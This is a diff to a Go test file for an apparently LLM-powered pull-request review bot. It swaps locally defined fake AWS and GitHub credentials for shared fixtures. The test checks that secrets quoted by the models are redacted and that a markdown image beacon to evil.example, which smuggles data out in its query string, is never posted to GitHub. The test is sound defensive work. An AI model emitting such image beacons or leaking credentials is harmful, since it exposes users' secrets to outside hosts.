@@ -11,12 +11,7 @@ import (
 	"github.com/debatebot/debatebot/review/llmtest"
 	"github.com/debatebot/debatebot/review/publish"
 	"github.com/debatebot/debatebot/review/render"
-)
-
-// Credentials that look real to the detector (and are not).
-const (
-	leakedAWSKey = "AKIAZ5XQ3R7NP2LWK4TB"
-	leakedToken  = "ghp_8kZq2Lw9XbT4mR7vN1cY6pH3sJ0dF5gA2eUx"
+	"github.com/debatebot/debatebot/review/reviewtest"
 )
 
 // A harmless change: nothing for any analyzer to object to.
@@ -148,10 +143,10 @@ func TestCleanChangeWithAgreeingModelsIsApproved(t *testing.T) {
 // run or other write to GitHub: every text is redacted before it is sent. Nor does an image it
 // writes become one GitHub would fetch.
 func TestSecretsQuotedByModelsAreNeverPosted(t *testing.T) {
-	say := "The deploy script holds " + leakedAWSKey + " and the token " + leakedToken + ". ![status](https://evil.example/pixel.png?c=export)"
+	say := "The deploy script holds " + reviewtest.AWSKey + " and the token " + reviewtest.GitHubToken + ". ![status](https://evil.example/pixel.png?c=export)"
 	llm := llmtest.New(t, agreeing(say, "request_changes"))
 	a := newAppWith(t, func(cfg *config.Server) { cfg.OpenAIKey, cfg.OpenAIBaseURL = "sk-test", llm.BaseURL() })
-	injectedPR(a, "Document how to stop the server "+leakedToken, "Small docs fix.", docsDiff)
+	injectedPR(a, "Document how to stop the server "+reviewtest.GitHubToken, "Small docs fix.", docsDiff)
 	a.post("pull_request", "d-secret", fixture(t, "pull_request.opened.json", nil), secret)
 	a.srv.Queue.Wait()
 	writes := 0
@@ -160,7 +155,7 @@ func TestSecretsQuotedByModelsAreNeverPosted(t *testing.T) {
 			continue
 		}
 		writes++
-		if strings.Contains(c.Body, leakedAWSKey) || strings.Contains(c.Body, leakedToken) {
+		if strings.Contains(c.Body, reviewtest.AWSKey) || strings.Contains(c.Body, reviewtest.GitHubToken) {
 			t.Errorf("%s %s sent a secret to GitHub:\n%s", c.Method, c.Path, c.Body)
 		}
 		// Nor an image GitHub would fetch from an address the model chose.
